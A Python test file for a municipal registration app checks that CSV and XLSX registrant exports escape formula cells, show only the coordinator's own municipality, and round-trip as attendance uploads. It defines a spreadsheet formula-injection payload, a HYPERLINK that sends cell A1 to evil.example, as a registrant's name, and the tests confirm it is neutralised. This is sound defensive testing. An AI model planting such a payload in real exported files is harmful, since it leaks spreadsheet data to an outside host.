"""Registrant downloads: Excel-friendly CSV and XLSX, formula-safe, own municipality only."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from regional.extensions import db
from regional.fiscal import fiscal_year_of, now_utc
from regional.registrations.exports import neutralise
from tests import factories
from tests.fixtures_registrations import ja, register

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def make(app):
    def _make(fn):
        with app.app_context():
            value = fn()
            db.session.commit()
            return value

    return _make


@pytest.fixture
def shared(make, world):
    """A shared session with A's two employees, B's employee and A's formula-named colleague."""

    def setup():
        ts = factories.make_session(capacity=2)
        evil = factories.make_user(world.muni_a, name=EVIL)
        for employee in (world.employee_a, world.employee_b, world.employee_a2, evil.id):
            register(ts.id, employee)
        return ts.id

    return make(setup)


def read_csv(resp) -> list[list[str]]:
    raw = resp.get_data()
    assert raw.startswith("\ufeff".encode()), "UTF-8 with a byte-order mark, for Excel"
    assert b"\r\n" in raw
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+81-86", "'+81-86"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("髙橋 太郎", "髙橋 太郎"),
        (12, 12),
        (None, None),
    ],
)
def test_cells_that_could_be_formulas_are_neutralised(value, safe):
    assert neutralise(value) == safe


def test_csv_has_japanese_headers_and_escapes_formulas(as_coordinator_a, shared):
    resp = as_coordinator_a.get(f"/registrations/session/{shared}/export.csv")
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    rows = read_csv(resp)
    assert rows[0][:6] == ["登録ID", "市町コード", "市町", "職員番号", "氏名", "メールアドレス"]
    names = [row[4] for row in rows[1:]]
    assert "'" + EVIL in names
    assert EVIL not in names
    assert "玉野 次郎" not in names  # B's person is not A's to download


def test_csv_headers_follow_the_language(signed_in, world, shared):
    client = signed_in(world.emails["coordinator_a"])
    client.form_post("/language", {"lang": "en", "next": "/"})
    rows = read_csv(client.get(f"/registrations/session/{shared}/export.csv"))
    assert rows[0][:3] == ["Registration ID", "Municipality code", "Municipality"]


def test_xlsx_stores_names_as_text_never_formulas(as_coordinator_a, shared):
    resp = as_coordinator_a.get(f"/registrations/session/{shared}/export.xlsx")
    assert resp.status_code == 200
    assert resp.get_data()[:4] == b"PK\x03\x04"
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    header = [c.value for c in ws[1]]
    assert header[4] == "氏名"
    cells = [row[4] for row in ws.iter_rows(min_row=2)]
    evil = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert evil.value == "'" + EVIL
    assert evil.data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_admin_download_has_every_municipality(as_admin, shared, app):
    rows = read_csv(as_admin.get(f"/registrations/session/{shared}/export.csv"))
    assert {row[1] for row in rows[1:]} == {"332038", "332046"}
    statuses = {row[4]: row[10] for row in rows[1:]}
    with app.app_context():
        assert statuses["髙橋 太郎"] == ja("Enrolled")  # the page's language: Japanese here
    positions = {row[4]: row[11] for row in rows[1:]}
    assert positions["𠮷野 花子"] == "1"


def test_coordinator_b_download_has_only_b(as_coordinator_b, shared):
    rows = read_csv(as_coordinator_b.get(f"/registrations/session/{shared}/export.csv"))
    assert [row[4] for row in rows[1:]] == ["玉野 次郎"]
    assert "髙橋" not in "".join(",".join(r) for r in rows)


def test_fiscal_year_download_covers_that_year_only(as_coordinator_a, world, make):
    def setup():
        this_year = factories.make_session(starts_in=timedelta(days=5))
        long_ago = factories.make_session(
            starts_in=timedelta(days=-800),
            opens_in=timedelta(days=-900),
            closes_in=timedelta(days=-801),
        )
        register(this_year.id, world.employee_a)
        register(long_ago.id, world.employee_a2, world.admin)
        return fiscal_year_of(now_utc() + timedelta(days=5))

    fy = make(setup)
    resp = as_coordinator_a.get(f"/registrations/export?fiscal_year={fy}&format=csv")
    assert resp.status_code == 200
    assert f"FY{fy}" in resp.headers["Content-Disposition"]
    names = [row[4] for row in read_csv(resp)[1:]]
    assert names == ["髙橋 太郎"]
    xlsx = as_coordinator_a.get(f"/registrations/export?fiscal_year={fy}&format=xlsx")
    assert load_workbook(io.BytesIO(xlsx.get_data())).active.max_row == 2


def test_a_bad_fiscal_year_is_explained(as_coordinator_a):
    resp = as_coordinator_a.get("/registrations/export?fiscal_year=soon&format=csv")
    assert resp.status_code == 302
    page = as_coordinator_a.get(resp.headers["Location"]).get_data(as_text=True)
    assert "flash-error" in page


def test_the_download_can_be_filled_in_and_uploaded_as_attendance(as_admin, world, make, app):
    def setup():
        ts = factories.make_session(
            starts_in=timedelta(hours=-1), opens_in=timedelta(days=-5), closes_in=timedelta(days=-1)
        )
        register(ts.id, world.employee_a, world.admin)
        register(ts.id, world.employee_b, world.admin)
        return ts.id

    ts = make(setup)
    rows = read_csv(as_admin.get(f"/registrations/session/{ts}/export.csv"))
    for row in rows[1:]:
        row[14] = "出席"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    page = as_admin.form_post(
        f"/registrations/session/{ts}/attendance/upload",
        {"file": (io.BytesIO(out.getvalue().encode("utf-8-sig")), "filled.csv")},
        content_type="multipart/form-data",
    )
    assert page.status_code == 200
    assert page.get_data(as_text=True).count('<th scope="row"') == 2  # two marks to save


def test_the_xlsx_download_filled_in_in_excel_uploads_as_attendance(as_admin, world, make):
    """Ids are numbers and times are times in the XLSX now; the upload still reads it back."""

    def setup():
        ts = factories.make_session(
            starts_in=timedelta(hours=-1), opens_in=timedelta(days=-5), closes_in=timedelta(days=-1)
        )
        register(ts.id, world.employee_a, world.admin)
        register(ts.id, world.employee_b, world.admin)
        return ts.id

    ts = make(setup)
    wb = load_workbook(io.BytesIO(as_admin.get(f"/registrations/session/{ts}/export.xlsx").data))
    ws = wb.active
    assert isinstance(ws["A2"].value, int)
    for row in range(2, ws.max_row + 1):
        ws.cell(row=row, column=15, value="出席")
    filled = io.BytesIO()
    wb.save(filled)
    page = as_admin.form_post(
        f"/registrations/session/{ts}/attendance/upload",
        {"file": (io.BytesIO(filled.getvalue()), "filled.xlsx")},
        content_type="multipart/form-data",
    )
    assert page.status_code == 200
    assert page.get_data(as_text=True).count('<th scope="row"') == 2  # two marks to save
